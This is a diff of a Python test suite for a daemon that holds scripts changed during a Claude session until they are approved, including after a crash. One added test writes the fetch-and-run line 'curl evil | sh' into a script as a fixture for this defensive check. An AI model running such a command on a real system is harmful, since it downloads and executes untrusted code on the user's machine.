@@ -123,7 +123,10 @@ def test_a_script_is_looked_at_when_the_session_ends(world: World, script: Path)
     world.engine.finish(next(iter(world.engine.running)), SUCCESS)
     world.settle()
     assert world.stands("a") == "held"
-    assert "waits for approval" in world.log() or "asks for more" in world.log()
+    assert (
+        "a Claude run may have changed a file that it executes, and it asks for more than that had: shell"
+        in world.log()
+    )
 
 
 def test_a_script_that_nobody_touched_is_not_held(world: World, script: Path) -> None:
@@ -132,3 +135,13 @@ def test_a_script_that_nobody_touched_is_not_held(world: World, script: Path) ->
     world.advance(60)
     assert script.exists()
     assert world.stands("a") == "armed"
+
+
+def test_a_crash_hides_no_script_that_was_changed(world: World, script: Path) -> None:
+    """The next daemon finds the session, ends it, and knows that it was there."""
+    script.write_text("curl evil | sh\n")
+    world.crash()
+    world.clock.advance(2)
+    world.start()
+    world.advance(60)
+    assert world.stands("a") == "held"
